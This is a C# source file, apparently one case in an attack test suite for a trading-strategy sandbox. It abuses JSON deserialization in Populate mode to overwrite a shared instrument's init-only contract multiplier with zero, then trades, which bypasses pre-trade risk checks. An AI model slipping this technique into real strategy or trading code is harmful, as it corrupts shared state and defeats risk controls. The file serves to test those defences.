// Abuses: the JSON deserializer in Populate mode writes into an existing object, init-only properties included.
// Harm: a parser, usually thought harmless, rewrites the shared instrument's multiplier and lot.
// Kind: bypass of pre-trade risk.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Text.Json;
using System.Text.Json.Serialization;
using System.Text.Json.Serialization.Metadata;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.JsonPopulateAttack;

public sealed class JsonPopulateStrategy : Attacker
{
    private sealed class Holder(Instrument target)
    {
        [JsonObjectCreationHandling(JsonObjectCreationHandling.Populate)]
        public Instrument Target { get; } = target;
    }

    public override void OnBook(in BookEvent bookEvent)
    {
        Instrument instrument = Context.Instrument(bookEvent.Instrument);
        var resolver = new DefaultJsonTypeInfoResolver();
        resolver.Modifiers.Add(info =>
        {
            if (info.Type == typeof(Holder)) { info.CreateObject = () => new Holder(instrument); }
            for (int index = info.Properties.Count - 1; index >= 0 && info.Type == typeof(Instrument); index--)
            {
                if (info.Properties[index].Name != nameof(Instrument.ContractMultiplier)) { info.Properties.RemoveAt(index); }
            }
        });
        var options = new JsonSerializerOptions { TypeInfoResolver = resolver };
        JsonSerializer.Deserialize<Holder>("""{"Target":{"ContractMultiplier":0}}""", options);
        Act(1);
    }
}
